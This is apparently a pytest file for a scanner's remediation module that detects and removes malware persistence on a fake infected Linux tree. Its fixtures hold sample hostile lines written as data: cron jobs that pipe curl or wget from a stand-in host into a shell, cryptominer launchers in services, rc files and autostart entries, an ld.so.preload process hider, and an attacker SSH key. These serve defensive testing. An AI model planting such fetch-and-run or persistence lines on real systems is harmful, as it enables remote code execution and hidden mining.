"""Tests of scanner.remediation.persistence against a fake machine built under tmp_path.

Every test passes a temporary sysroot; nothing outside tmp_path is read or written
(``test_reads_nothing_outside_the_sysroot`` checks that with an audit hook).
"""

from __future__ import annotations

import hashlib
import logging
import os
import stat
import sys
from collections.abc import Iterator
from datetime import UTC, datetime
from pathlib import Path

import pytest

from scanner.errors import QuarantineError
from scanner.model import SkipReason
from scanner.remediation.persistence import (
    ActionKind,
    ConfigHit,
    DeleteFile,
    DisableUnit,
    LocationKind,
    OutcomeStatus,
    PersistenceFinding,
    PersistenceLocation,
    Reason,
    Removal,
    RemoveLines,
    RemovePreloadEntry,
    SystemdReload,
    apply_action,
    classify_paths,
    find_persistence,
    list_locations,
    parse_entries,
    plan_cleanup,
    restore_links,
)

MINER = "/tmp/.X11-cache/kdevtmpfsi"
USER_MINER = "/home/alice/.cache/kdevtmpfsi"
UPDATER = "/home/alice/.local/bin/updater"
BARE = "/usr/bin/kinsing"
HIDER = "/usr/local/lib/libprocesshider.so"
MARKERS = {"kinsing": ["bad.example.net"], "outlaw": ["mdrfckr"]}
INERT = b"inert test sample, not a program\n"

BASHRC = (
    b"# ~/.bashrc: executed by bash(1) for non-login shells.\n"
    b'[ -z "$PS1" ] && return\n'
    b"alias ll='ls -l'\n"
    b'export PATH="$HOME/bin:$PATH"\n'
    b"(cd ~/.cache && ./kdevtmpfsi &) >/dev/null 2>&1\n"
    b"if [ -f ~/.bash_aliases ]; then\n"
    b"    . ~/.bash_aliases\n"
    b"fi\n"
)


def put(root: Path, machine: str, content: str | bytes, mode: int = 0o644) -> Path:
    path = root / machine.lstrip("/")
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(content.encode() if isinstance(content, str) else content)
    path.chmod(mode)
    return path


def link(root: Path, machine: str, target: str) -> Path:
    path = root / machine.lstrip("/")
    path.parent.mkdir(parents=True, exist_ok=True)
    path.symlink_to(target)
    return path


def clock() -> datetime:
    return datetime(2024, 5, 1, 12, 0, tzinfo=UTC)


class Vault:
    """A stand-in for the quarantine vault's backup(): keeps copies in a directory."""

    def __init__(self, directory: Path) -> None:
        self.directory = directory
        directory.mkdir()
        self.items: dict[str, tuple[str, bytes]] = {}

    def backup(self, path: str) -> str:
        data = Path(path).read_bytes()
        backup_id = f"b{len(self.items)}"
        (self.directory / backup_id).write_bytes(data)
        self.items[backup_id] = (path, data)
        return backup_id

    def restore(self, backup_id: str) -> None:
        path, data = self.items[backup_id]
        Path(path).write_bytes(data)


@pytest.fixture
def machine(tmp_path: Path) -> Path:
    """A small infected Linux machine (usrmerge layout) under tmp_path/root."""
    root = tmp_path / "root"
    root.mkdir()
    link(root, "/bin", "usr/bin")
    link(root, "/lib", "usr/lib")
    put(
        root,
        "/etc/passwd",
        "root:x:0:0:root:/root:/bin/bash\n"
        "daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\n"
        "alice:x:1000:1000:Alice:/home/alice:/bin/bash\n"
        "bob:x:1001:1001:Bob:/srv/bob:/bin/sh\n",
    )
    for path in (MINER, USER_MINER, UPDATER, BARE, HIDER):
        put(root, path, INERT, 0o755)

    put(
        root,
        "/var/spool/cron/crontabs/root",
        "# m h dom mon dow command\n"
        'MAILTO=""\n'
        "17 3 * * * /usr/sbin/logrotate /etc/logrotate.conf\n"
        "*/5 * * * * curl -fsSL http://bad.example.net/p.sh | sh\n",
        0o600,
    )
    put(root, "/etc/cron.d/malicious", f'SHELL=/bin/sh\n*/10 * * * * root "{MINER}" >/dev/null 2>&1\n')
    put(root, "/etc/cron.d/sysstat", "5-55/10 * * * * root command -v debian-sa1 > /dev/null && debian-sa1 1 1\n")

    put(
        root,
        "/etc/systemd/system/kdevtmpfsi.service",
        f"[Unit]\nDescription=kernel helper\n[Service]\nExecStart={MINER}\nRestart=always\n"
        "[Install]\nWantedBy=multi-user.target\n",
    )
    link(root, "/etc/systemd/system/multi-user.target.wants/kdevtmpfsi.service", "../kdevtmpfsi.service")
    put(root, "/etc/systemd/system/kdevtmpfsi.timer", "[Timer]\nOnBootSec=5min\n[Install]\nWantedBy=timers.target\n")
    link(root, "/etc/systemd/system/timers.target.wants/kdevtmpfsi.timer", "/etc/systemd/system/kdevtmpfsi.timer")
    put(
        root,
        "/usr/lib/systemd/system/ssh.service",
        f"[Service]\nExecStartPre=/bin/sh -c 'nohup {MINER} &'\nExecStart=/usr/sbin/sshd -D \\\n    -o LogLevel=INFO\n",
    )
    link(root, "/etc/systemd/system/multi-user.target.wants/ssh.service", "/lib/systemd/system/ssh.service")
    put(
        root,
        "/home/alice/.config/systemd/user/dbus-update.service",
        "[Service]\nExecStart=%h/.local/bin/updater --quiet\n[Install]\nWantedBy=default.target\n",
    )
    link(
        root,
        "/home/alice/.config/systemd/user/default.target.wants/dbus-update.service",
        "/home/alice/.config/systemd/user/dbus-update.service",
    )

    put(root, "/home/alice/.config/autostart/tracker.desktop", f"[Desktop Entry]\nType=Application\nExec={MINER} -d\n")
    put(root, "/etc/xdg/autostart/print-applet.desktop", "[Desktop Entry]\nExec=system-config-printer-applet\n")
    put(root, "/home/alice/.bashrc", BASHRC)
    put(root, "/srv/bob/.profile", "umask 022\nkinsing >/dev/null 2>&1 &\n")
    put(root, "/etc/ld.so.preload", HIDER + "\n")
    put(root, "/etc/rc.local", f"#!/bin/sh -e\n{MINER} &\nexit 0\n", 0o755)
    put(
        root,
        "/root/.ssh/authorized_keys",
        "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIKlegit admin@laptop\nssh-rsa AAAAB3NzaC1yc2EAAAABJQAAAQEArkx8 mdrfckr\n",
        0o600,
    )
    put(
        root,
        "/etc/init.d/kdev",
        f"#!/bin/sh\n### BEGIN INIT INFO\n# Provides: kdev\n### END INIT INFO\n{MINER} &\nexit 0\n",
        0o755,
    )
    link(root, "/etc/rc2.d/S01kdev", "../init.d/kdev")
    return root


def detected(root: Path, *machine_paths: str) -> dict[str, str]:
    """Detected files keyed as the scanner saw them: under the sysroot."""
    return {str(root) + p: "kinsing" for p in machine_paths}


def by_path(findings: tuple[PersistenceFinding, ...]) -> dict[str, PersistenceFinding]:
    return {f.location.path: f for f in findings}


def snapshot(root: Path) -> dict[str, object]:
    """Every file's bytes and mode and every link's target, to compare whole trees."""
    out: dict[str, object] = {}
    for dirpath, dirnames, filenames in os.walk(root):
        for name in filenames + dirnames:
            path = Path(dirpath) / name
            rel = str(path.relative_to(root))
            if path.is_symlink():
                out[rel] = ("link", os.readlink(path))
            elif path.is_file():
                out[rel] = ("file", path.read_bytes(), stat.S_IMODE(path.stat().st_mode))
    return out


def scan(root: Path, **kw: object) -> dict[str, PersistenceFinding]:
    result = find_persistence(root, detected(root, MINER, USER_MINER, UPDATER, BARE, HIDER), MARKERS, **kw)  # type: ignore[arg-type]
    return by_path(result.findings)


# --------------------------------------------------------------------------- finding


def test_finds_each_location_and_decides_how_to_clean_it(machine: Path) -> None:
    found = scan(machine)

    crontab = found["/var/spool/cron/crontabs/root"]
    assert (crontab.removal, crontab.lines) == (Removal.LINES, (4,))
    assert crontab.location.kind is LocationKind.USER_CRONTAB and crontab.location.owner == "root"
    assert [m.reason for m in crontab.matches] == [Reason.FAMILY_MARKER]
    assert crontab.families == ("kinsing",)

    assert found["/etc/cron.d/malicious"].removal is Removal.FILE
    assert "/etc/cron.d/sysstat" not in found
    assert "/etc/xdg/autostart/print-applet.desktop" not in found

    unit = found["/etc/systemd/system/kdevtmpfsi.service"]
    assert unit.removal is Removal.FILE and unit.location.unit == "kdevtmpfsi.service"
    assert [lk.path for lk in unit.links] == ["/etc/systemd/system/multi-user.target.wants/kdevtmpfsi.service"]
    timer = found["/etc/systemd/system/kdevtmpfsi.timer"]
    assert timer.removal is Removal.FILE and timer.matches[0].reason is Reason.TRIGGERS_UNIT
    assert [lk.path for lk in timer.links] == ["/etc/systemd/system/timers.target.wants/kdevtmpfsi.timer"]

    # /lib is a link to usr/lib: found once, under its canonical path; only ExecStartPre goes.
    ssh = found["/usr/lib/systemd/system/ssh.service"]
    assert (ssh.removal, ssh.lines) == (Removal.LINES, (2,))
    assert "/lib/systemd/system/ssh.service" not in found

    user_unit = found["/home/alice/.config/systemd/user/dbus-update.service"]
    assert user_unit.removal is Removal.FILE
    assert (user_unit.location.owner, user_unit.location.user_manager) == ("alice", True)
    assert len(user_unit.links) == 1

    assert found["/home/alice/.config/autostart/tracker.desktop"].removal is Removal.FILE
    bashrc = found["/home/alice/.bashrc"]
    assert (bashrc.removal, bashrc.lines) == (Removal.LINES, (5,))
    assert bashrc.matches[0].evidence == USER_MINER
    bob = found["/srv/bob/.profile"]  # home from /etc/passwd, outside /home; a bare command name
    assert (bob.removal, bob.lines, bob.location.owner) == (Removal.LINES, (2,), "bob")

    preload = found["/etc/ld.so.preload"]
    assert (preload.removal, preload.lines, preload.removed_text) == (Removal.LINES, (1,), (HIDER,))
    rc_local = found["/etc/rc.local"]
    assert (rc_local.removal, rc_local.lines) == (Removal.LINES, (2,))  # never removed whole
    keys = found["/root/.ssh/authorized_keys"]
    assert (keys.removal, keys.lines, keys.families) == (Removal.LINES, (2,), ("outlaw",))
    init = found["/etc/init.d/kdev"]
    assert init.removal is Removal.FILE
    assert [(lk.path, lk.target) for lk in init.links] == [("/etc/rc2.d/S01kdev", "../init.d/kdev")]


def test_plan_is_pure_and_describes_each_action_in_one_line(machine: Path) -> None:
    before = snapshot(machine)
    findings = find_persistence(machine, detected(machine, MINER, USER_MINER, UPDATER, BARE, HIDER), MARKERS)
    actions = plan_cleanup(findings.findings)
    assert snapshot(machine) == before

    kinds = {(a.kind, a.path) for a in actions}
    assert (ActionKind.DISABLE_UNIT, "/etc/systemd/system/kdevtmpfsi.service") in kinds
    assert (ActionKind.DELETE_FILE, "/etc/systemd/system/kdevtmpfsi.service") in kinds
    assert (ActionKind.REMOVE_PRELOAD_ENTRY, "/etc/ld.so.preload") in kinds
    assert (ActionKind.REMOVE_LINES, "/home/alice/.bashrc") in kinds
    for action in actions:
        text = action.describe()
        assert text and "\n" not in text
    disable = next(a for a in actions if isinstance(a, DisableUnit) and a.unit == "dbus-update.service")
    assert disable.reload == SystemdReload(user_manager=True, user="alice")
    assert disable.describe().endswith("systemctl --user -M alice@ daemon-reload")
    # The unit is disabled before its file goes.
    order = [(a.kind, a.path) for a in actions]
    unit = "/etc/systemd/system/kdevtmpfsi.service"
    assert order.index((ActionKind.DISABLE_UNIT, unit)) < order.index((ActionKind.DELETE_FILE, unit))
    assert (
        str(machine) + "/home/alice/.bashrc" in next(a for a in actions if a.path == "/home/alice/.bashrc").describe()
    )


def test_apply_cleans_only_what_was_planned_and_undo_restores_everything(machine: Path, tmp_path: Path) -> None:
    before = snapshot(machine)
    vault = Vault(tmp_path / "vault")
    result = find_persistence(machine, detected(machine, MINER, USER_MINER, UPDATER, BARE, HIDER), MARKERS)
    outcomes = [apply_action(a, vault.backup, clock) for a in plan_cleanup(result.findings)]

    assert [o.status for o in outcomes] == [OutcomeStatus.DONE] * len(outcomes), [o.detail for o in outcomes]
    assert all(o.at == "2024-05-01T12:00:00+00:00" for o in outcomes)

    # Only the offending line is gone; every other byte is as it was.
    lines = BASHRC.splitlines(keepends=True)
    assert (machine / "home/alice/.bashrc").read_bytes() == b"".join(lines[:4] + lines[5:])
    crontab = machine / "var/spool/cron/crontabs/root"
    assert b"bad.example.net" not in crontab.read_bytes() and b"logrotate" in crontab.read_bytes()
    assert stat.S_IMODE(crontab.stat().st_mode) == 0o600
    assert (machine / "etc/ld.so.preload").read_bytes() == b""  # the file stays
    assert (machine / "etc/rc.local").read_bytes() == b"#!/bin/sh -e\nexit 0\n"
    assert stat.S_IMODE((machine / "etc/rc.local").stat().st_mode) == 0o755
    assert (machine / "usr/lib/systemd/system/ssh.service").read_text().startswith("[Service]\nExecStart=")
    assert b"mdrfckr" not in (machine / "root/.ssh/authorized_keys").read_bytes()
    for gone in (
        "etc/cron.d/malicious",
        "etc/systemd/system/kdevtmpfsi.service",
        "etc/systemd/system/multi-user.target.wants/kdevtmpfsi.service",
        "etc/systemd/system/kdevtmpfsi.timer",
        "etc/systemd/system/timers.target.wants/kdevtmpfsi.timer",
        "home/alice/.config/systemd/user/dbus-update.service",
        "home/alice/.config/systemd/user/default.target.wants/dbus-update.service",
        "home/alice/.config/autostart/tracker.desktop",
        "etc/init.d/kdev",
        "etc/rc2.d/S01kdev",
    ):
        assert not os.path.lexists(machine / gone), gone
    assert (machine / "etc/systemd/system/multi-user.target.wants/ssh.service").is_symlink()
    assert (machine / "etc/cron.d/sysstat").exists()
    assert not list(machine.rglob("*scanner-tmp*"))

    reloads = {o.reload for o in outcomes if o.status is OutcomeStatus.DONE}
    assert SystemdReload() in reloads
    assert SystemdReload(True, "alice") in reloads
    assert {o.stop_unit for o in outcomes if o.stop_unit} == {
        "kdevtmpfsi.service",
        "kdevtmpfsi.timer",
        "dbus-update.service",
    }
    assert all(o.backup_ids for o in outcomes if not isinstance(o.action, DisableUnit))

    # Undo: the vault restores the files, restore_links the links; the tree is as before.
    for outcome in outcomes:
        for backup_id in outcome.backup_ids:
            vault.restore(backup_id)
    for outcome in outcomes:
        assert restore_links(machine, outcome.removed_links) == []
    after = snapshot(machine)
    assert {k: v[:2] for k, v in after.items()} == {k: v[:2] for k, v in before.items()}  # type: ignore[index]


# --------------------------------------------------------------------------- how lines are matched


@pytest.mark.parametrize(
    ("line", "hit"),
    [
        (f"* * * * * {MINER}", True),
        (f"* * * * * '{MINER}' -o x", True),
        (f'@reboot /bin/bash -c "sleep 30; {MINER} >/dev/null"', True),
        (f"* * * * * env LD_PRELOAD={HIDER} /usr/bin/true", True),
        ("* * * * * cd /tmp/.X11-cache && ./kdevtmpfsi", True),
        ("* * * * * cd /tmp && ./.X11-cache/kdevtmpfsi", True),
        ("* * * * * nohup kinsing &", True),
        ("* * * * * wget -q -O- http://bad.example.net/i.sh | bash", True),
        ("* * * * * /tmp/./.X11-cache//kdevtmpfsi", True),
        (f"* * * * * {MINER}-old", False),
        ("* * * * * curl http://mirror.example.org/tmp/.X11-cache/kdevtmpfsi", False),
        ("* * * * * /usr/bin/kinsing-report --dry-run", False),
        ("* * * * * echo kinsing", False),
        ("* * * * * ./kdevtmpfsi", False),
    ],
)
def test_command_forms(tmp_path: Path, line: str, hit: bool) -> None:
    put(tmp_path, MINER, INERT)
    put(tmp_path, "/var/spool/cron/crontabs/alice", line + "\n")
    found = scan(tmp_path)
    assert ("/var/spool/cron/crontabs/alice" in found) is hit


def test_detected_path_forms(tmp_path: Path) -> None:
    """Paths of running images carry ' (deleted)'; links in the path resolve under the sysroot."""
    put(tmp_path, "/opt/x/miner", INERT)
    link(tmp_path, "/usr/local/bin/miner", "/opt/x/miner")
    put(tmp_path, "/etc/cron.d/a", "* * * * * root /usr/local/bin/miner\n")
    put(tmp_path, "/etc/cron.d/b", "* * * * * root /opt/x/miner\n")
    result = find_persistence(tmp_path, {str(tmp_path) + "/opt/x/miner (deleted)"})
    assert sorted(by_path(result.findings)) == ["/etc/cron.d/a", "/etc/cron.d/b"]
    # Machine paths (as a process reports them on the inspected machine) work too.
    assert len(find_persistence(tmp_path, {"/usr/local/bin/miner"}).findings) == 2


def test_cron_d_file_with_other_jobs_keeps_them(tmp_path: Path) -> None:
    put(tmp_path, MINER, INERT)
    put(tmp_path, "/etc/cron.d/php", f"09,39 * * * * root /usr/lib/php/sessionclean\n* * * * * root {MINER}\n")
    finding = scan(tmp_path)["/etc/cron.d/php"]
    assert (finding.removal, finding.lines) == (Removal.LINES, (2,))


def test_parse_entries_knows_each_format() -> None:
    def entries(kind: LocationKind, path: str, text: str) -> list[tuple[tuple[int, ...], str, str]]:
        location = PersistenceLocation(kind, path, "/")
        return [(e.lines, e.command, e.key) for e in parse_entries(location, text.encode())]

    assert entries(LocationKind.SYSTEM_CRONTAB, "/etc/crontab", "# c\nPATH=/bin\n17 * * * * root cd / && run\n") == [
        ((2,), "", ""),
        ((3,), "cd / && run", ""),
    ]
    assert entries(LocationKind.SYSTEM_CRONTAB, "/etc/anacrontab", "@monthly 15 cron.monthly run-parts x\n") == [
        ((1,), "run-parts x", "")
    ]
    assert entries(LocationKind.USER_CRONTAB, "/var/spool/cron/u", "@reboot /x\n") == [((1,), "/x", "")]
    unit = "[Service]\n; note\nExecStart=-/usr/bin/a \\\n  --flag\nUser=x\n"
    assert entries(LocationKind.SYSTEMD_UNIT, "/u.service", unit) == [
        ((3, 4), "/usr/bin/a --flag", "ExecStart"),
        ((5,), "", "User"),
    ]
    keys = 'command="/usr/bin/backup --ro",no-pty ssh-ed25519 AAAA k\n'
    assert entries(LocationKind.AUTHORIZED_KEYS, "/root/.ssh/authorized_keys", keys) == [
        ((1,), "/usr/bin/backup --ro", "")
    ]
    assert entries(LocationKind.SHELL_RC, "/etc/profile", "a=1 \\\n b=2\n\n# x\n") == [((1, 2), "a=1 b=2", "")]


# --------------------------------------------------------------------------- case b: rule hits in the file


def test_rule_hit_inside_bashrc_removes_only_the_hit_lines(machine: Path) -> None:
    bashrc = machine / "home/alice/.bashrc"
    put(machine, "/home/alice/.profile", 'if [ -f "$HOME/.bashrc" ]; then . "$HOME/.bashrc"; fi\n')
    data = bashrc.read_bytes()
    offset = data.index(b"kdevtmpfsi")
    hits = {str(bashrc): ConfigHit("kinsing", "Kinsing_Bashrc", (offset, offset + 3), hashlib.sha256(data).hexdigest())}
    # The scanner also lists the .bashrc among detected files: it must not make .profile a finding.
    result = find_persistence(machine, {str(bashrc): "kinsing"}, detected_config_files=hits)
    found = by_path(result.findings)
    assert (found["/home/alice/.bashrc"].removal, found["/home/alice/.bashrc"].lines) == (Removal.LINES, (5,))
    assert Reason.RULE_HIT in {m.reason for m in found["/home/alice/.bashrc"].matches}
    assert "/home/alice/.profile" not in found


def test_rule_hit_with_stale_or_missing_offsets_is_left_for_review(machine: Path) -> None:
    bashrc = str(machine / "home/alice/.bashrc")
    stale = ConfigHit("kinsing", "r", (10,), sha256="0" * 64)
    assert scan(machine, detected_config_files={bashrc: stale})["/home/alice/.bashrc"].lines == (5,)  # own evidence
    only = find_persistence(machine, (), detected_config_files={bashrc: stale})
    assert by_path(only.findings)["/home/alice/.bashrc"].removal is Removal.NONE
    unknown = find_persistence(machine, (), detected_config_files={bashrc: ConfigHit("kinsing")})
    assert by_path(unknown.findings)["/home/alice/.bashrc"].removal is Removal.NONE  # never the whole rc file
    assert plan_cleanup(unknown.findings) == []
    cron_d = str(machine / "etc/cron.d/sysstat")
    whole = find_persistence(machine, (), detected_config_files={cron_d: ConfigHit("kinsing")})
    assert by_path(whole.findings)["/etc/cron.d/sysstat"].removal is Removal.FILE


def test_family_paths(machine: Path) -> None:
    put(machine, "/etc/cron.d/kinsing_job", "* * * * * root /opt/.k/run.sh\n")
    put(machine, "/opt/.k/run.sh", "#!/bin/sh\n")
    paths = {"kinsing": ["/etc/cron.d/kins*", "/opt/.k/*.sh", "/etc/ld.so.preload", "~/.config/autostart/*"]}
    result = find_persistence(machine, (), {}, paths)
    found = by_path(result.findings)
    assert found["/etc/cron.d/kinsing_job"].removal is Removal.FILE
    artifact = found["/opt/.k/run.sh"]
    assert (artifact.location.kind, artifact.removal) == (LocationKind.FAMILY_ARTIFACT, Removal.FILE)
    assert found["/etc/ld.so.preload"].removal is Removal.NONE  # a shared file: review, not delete
    assert found["/home/alice/.config/autostart/tracker.desktop"].removal is Removal.FILE
    # With a marker the family's lines in a shared file can be pinned down.
    with_marker = find_persistence(machine, (), {"kinsing": ["processhider"]}, paths)
    assert by_path(with_marker.findings)["/etc/ld.so.preload"].lines == (1,)


def test_classify_paths_tells_remediation_which_detections_are_config_files(machine: Path) -> None:
    paths = [str(machine / "home/alice/.bashrc"), str(machine / MINER.lstrip("/")), str(machine / "lib/systemd")]
    found = classify_paths(machine, paths)
    assert list(found) == [paths[0]]
    assert found[paths[0]].kind is LocationKind.SHELL_RC


# --------------------------------------------------------------------------- hostile cases


def test_file_changed_between_plan_and_apply_is_refused(machine: Path, tmp_path: Path) -> None:
    result = find_persistence(machine, detected(machine, USER_MINER), MARKERS)
    (action,) = [a for a in plan_cleanup(result.findings) if a.path == "/home/alice/.bashrc"]
    bashrc = machine / "home/alice/.bashrc"
    bashrc.write_bytes(BASHRC + b"alias la='ls -A'\n")
    calls: list[str] = []

    def recording_backup(path: str) -> str:
        calls.append(path)
        return "id"

    outcome = apply_action(action, recording_backup, clock)
    assert outcome.status is OutcomeStatus.REFUSED and "changed since the scan" in outcome.detail
    assert calls == [] and bashrc.read_bytes() == BASHRC + b"alias la='ls -A'\n"


def test_change_during_backup_is_refused(machine: Path, tmp_path: Path) -> None:
    result = find_persistence(machine, detected(machine, MINER))
    (action,) = [a for a in plan_cleanup(result.findings) if a.path == "/etc/rc.local"]
    rc_local = machine / "etc/rc.local"

    def racing_backup(path: str) -> str:
        rc_local.write_bytes(b"#!/bin/sh\nexit 0\n")
        return "id-1"

    outcome = apply_action(action, racing_backup, clock)
    assert (outcome.status, outcome.backup_ids) == (OutcomeStatus.REFUSED, ("id-1",))
    assert rc_local.read_bytes() == b"#!/bin/sh\nexit 0\n"


def test_backup_failure_changes_nothing(machine: Path) -> None:
    result = find_persistence(machine, detected(machine, MINER))
    before = snapshot(machine)

    def broken(path: str) -> str:
        raise QuarantineError("vault is full; free space and retry")

    outcomes = [apply_action(a, broken, clock) for a in plan_cleanup(result.findings) if not isinstance(a, DisableUnit)]
    assert {o.status for o in outcomes} == {OutcomeStatus.FAILED}
    assert snapshot(machine) == before


def test_file_swapped_for_a_symlink_is_refused(machine: Path, tmp_path: Path) -> None:
    result = find_persistence(machine, detected(machine, MINER))
    actions = {a.path: a for a in plan_cleanup(result.findings) if isinstance(a, DeleteFile | RemoveLines)}
    vault = Vault(tmp_path / "vault")

    # The file itself becomes a link to a file with the very same content.
    cron = machine / "etc/cron.d/malicious"
    decoy = tmp_path / "decoy"
    decoy.write_bytes(cron.read_bytes())
    cron.unlink()
    cron.symlink_to(decoy)
    outcome = apply_action(actions["/etc/cron.d/malicious"], vault.backup, clock)
    assert outcome.status is OutcomeStatus.REFUSED and decoy.exists() and cron.is_symlink()

    # A directory on the way becomes a link to a copy elsewhere.
    etc_real = tmp_path / "elsewhere"
    (machine / "etc/init.d").rename(etc_real)
    (machine / "etc/init.d").symlink_to(etc_real)
    outcome = apply_action(actions["/etc/init.d/kdev"], vault.backup, clock)
    assert outcome.status is OutcomeStatus.REFUSED and (etc_real / "kdev").exists()
    assert vault.items == {}


def test_symlinks_never_lead_out_of_the_sysroot(tmp_path: Path) -> None:
    outside = tmp_path / "outside"
    put(outside, "/crontab", "* * * * * root curl http://bad.example.net/x | sh\n")
    put(outside, "/home/.bashrc", "curl http://bad.example.net/x | sh\n")
    root = tmp_path / "root"
    put(
        root,
        "/etc/passwd",
        f"eve:x:1002:1002::{outside}/home:/bin/sh\nmal:x:1003:1003::/../../../..{outside}/home:/bin/sh\n",
    )
    link(root, "/etc/cron.d/absolute", str(outside / "crontab"))
    link(root, "/etc/cron.d/relative", "../" * 30 + str(outside / "crontab").lstrip("/"))
    link(root, "/home/mallory", str(outside / "home"))
    link(root, "/etc/cron.d/loop", "loop")
    put(root, "/etc/cron.d/inside-target", "")
    result = find_persistence(root, (), MARKERS)
    assert result.findings == ()
    assert [(s.path, s.reason) for s in result.skipped] == [(str(root) + "/etc/cron.d/loop", SkipReason.SYMLINK_LOOP)]
    # Inside the sysroot an absolute link is resolved as the machine would resolve it.
    put(root, str(outside / "crontab"), "* * * * * root curl http://bad.example.net/x | sh\n")
    (finding,) = find_persistence(root, (), MARKERS).findings
    assert finding.location.path == str(outside / "crontab") and finding.location.host_path.startswith(str(root))


@pytest.fixture
def opened_paths() -> Iterator[list[str]]:
    """Absolute paths opened or listed while the fixture is active (an audit hook cannot be removed)."""
    seen: list[str] = []
    active = [True]

    def hook(event: str, args: tuple[object, ...]) -> None:
        if active[0] and event in ("open", "os.scandir", "os.listdir") and args:
            path = args[0]
            if isinstance(path, bytes):
                path = os.fsdecode(path)
            if isinstance(path, str) and path.startswith("/"):
                seen.append(path)

    sys.addaudithook(hook)
    yield seen
    active[0] = False


def test_reads_nothing_outside_the_sysroot(tmp_path: Path, opened_paths: list[str]) -> None:
    root = tmp_path / "bare"
    put(root, "/etc/crontab", "* * * * * root wget http://bad.example.net/a\n")  # no /home, no /etc/passwd
    locations, skipped = list_locations(root)
    result = find_persistence(root, {"/usr/bin/kinsing": "kinsing"}, MARKERS, {"k": ["~/.kinsing", "/opt/*"]})
    assert [loc.path for loc in locations] == ["/etc/crontab"] and skipped == []
    assert [f.location.path for f in result.findings] == ["/etc/crontab"]
    outside = [p for p in opened_paths if not p.startswith(str(tmp_path))]
    assert outside == []
    assert opened_paths  # the hook did see the opens


def test_special_files_are_skipped_not_read(tmp_path: Path) -> None:
    os.makedirs(tmp_path / "etc/cron.d")
    os.mkfifo(tmp_path / "etc/cron.d/fifo")  # opening it for reading would block
    result = find_persistence(tmp_path, ())
    assert [(s.reason, s.path) for s in result.skipped] == [
        (SkipReason.SPECIAL_FILE, str(tmp_path) + "/etc/cron.d/fifo")
    ]


def test_vanished_file_is_gone_not_an_error(machine: Path, tmp_path: Path) -> None:
    result = find_persistence(machine, detected(machine, MINER))
    (action,) = [a for a in plan_cleanup(result.findings) if a.path == "/etc/cron.d/malicious"]
    (machine / "etc/cron.d/malicious").unlink()
    assert apply_action(action, Vault(tmp_path / "v").backup, clock).status is OutcomeStatus.GONE


def test_missing_sysroot_is_an_error(tmp_path: Path) -> None:
    from scanner.errors import PersistenceError

    with pytest.raises(PersistenceError, match="not a directory"):
        find_persistence(tmp_path / "nope", ())


def test_outcome_types_round_trip_into_reports(machine: Path, tmp_path: Path) -> None:
    """Outcomes carry the action, so a report can say what was done to which file."""
    result = find_persistence(machine, detected(machine, HIDER))
    (action,) = plan_cleanup(result.findings)
    assert isinstance(action, RemovePreloadEntry) and action.describe().startswith(f"remove preload entry {HIDER}")
    outcome = apply_action(action, Vault(tmp_path / "v").backup, clock)
    assert outcome.action is action and outcome.reload is None and outcome.backup_ids == ("b0",)


def test_each_decision_is_logged(machine: Path, caplog: pytest.LogCaptureFixture) -> None:
    """A user can ask why: a file losing lines, a line only mentioned, a refused change."""
    caplog.set_level(logging.INFO, logger="scanner.remediation.persistence")
    result = find_persistence(machine, detected(machine, USER_MINER), MARKERS)
    assert "/home/alice/.bashrc to lose line(s) 5: a shell startup file only ever loses lines" in caplog.text
    (action,) = [a for a in plan_cleanup(result.findings) if a.path == "/home/alice/.bashrc"]
    (machine / "home/alice/.bashrc").write_bytes(BASHRC + b"alias la='ls -A'\n")
    caplog.clear()
    apply_action(action, lambda path: "id", clock)
    assert f"{action.describe()}: refused: {machine}/home/alice/.bashrc changed since the scan" in caplog.text
